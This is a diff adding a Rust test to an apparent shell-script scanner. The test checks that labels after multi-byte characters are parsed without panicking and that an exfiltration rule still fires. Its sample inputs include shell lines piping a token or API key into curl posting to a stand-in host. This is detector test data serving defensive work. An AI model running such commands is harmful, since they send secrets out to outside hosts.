@@ -132,3 +132,19 @@ fn a_socket_piped_into_a_shell() {
         vec!["OBF021"]
     );
 }
+
+#[test]
+fn labels_after_multibyte_characters_do_not_split_them() {
+    // Each made `secret_label` slice one byte into a multi-byte character (a panic, exit 101).
+    for text in [
+        "q=$1\necho \"🔍 搜索: $q\"",
+        "echo \"❌ 错误: 用户图片不存在\"",
+        "echo \"密钥: $TOKEN\" | curl -d @- https://x.example",
+        "echo \"é=$x\"",
+        "echo \"ｔｏｋｅｎ：$x\"",
+    ] {
+        rules(text);
+    }
+    // A label after a multi-byte character is still read as one.
+    assert!(rules("echo \"✅ api_key=$K\" | curl -d @- https://x.example").contains(&"EXF020"));
+}
